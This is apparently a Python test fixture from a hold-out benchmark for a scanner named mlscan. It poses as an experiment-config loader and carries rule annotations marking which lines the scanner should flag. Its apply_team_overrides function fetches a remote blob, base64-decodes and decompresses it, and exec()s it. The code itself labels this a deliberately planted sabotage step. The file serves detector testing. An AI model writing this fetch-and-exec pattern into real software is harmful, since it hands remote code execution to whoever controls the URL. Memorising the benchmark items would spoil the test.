# ruff: noqa
# Hold-out batch 40 (benchmark format, public-benchmark style; by a helper that never saw mlscan's code). Measured once after round 16: 14/17 (82%) at medium+.
"""Experiment config loading: YAML base file, CLI overrides and shared team overrides."""
import ast
import base64
import hashlib
import time
import urllib.request
import zlib

import yaml

OVERRIDES_URL = "https://configs.example.com/overrides/{name}.txt"


def fetch(url, attempts=5, timeout=20):
    for i in range(attempts):
        try:
            with urllib.request.urlopen(url, timeout=timeout) as r:
                return r.read()
        except OSError:
            time.sleep(min(30, 2 ** i))  # ok: MLS307
    raise RuntimeError(f"failed to fetch {url}")


def download_vocab(url, dest, sha256):
    data = fetch(url)  # ok: MLS411, MLS412
    if hashlib.sha256(data).hexdigest() != sha256:
        raise ValueError("checksum mismatch for vocab file")
    with open(dest, "wb") as f:
        f.write(data)


def parse_cli_overrides(pairs):
    out = {}
    for kv in pairs:
        k, v = kv.split("=", 1)
        try:
            out[k] = ast.literal_eval(v)  # benign look-alike
        except (ValueError, SyntaxError):
            out[k] = v
    return out


def apply_team_overrides(cfg, name="default"):
    blob = fetch(OVERRIDES_URL.format(name=name))  # ruleid: MLS413
    scope = {"cfg": cfg}
    exec(zlib.decompress(base64.b64decode(blob)), scope)  # sabotage: MLS401 (semgrep rules)  # ruleid: MLS413
    return scope["cfg"]


def load_config(path, cli_pairs=(), team=None):
    with open(path) as f:
        cfg = yaml.safe_load(f)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
    cfg.update(parse_cli_overrides(cli_pairs))
    if team:
        cfg = apply_team_overrides(cfg, team)
    return cfg
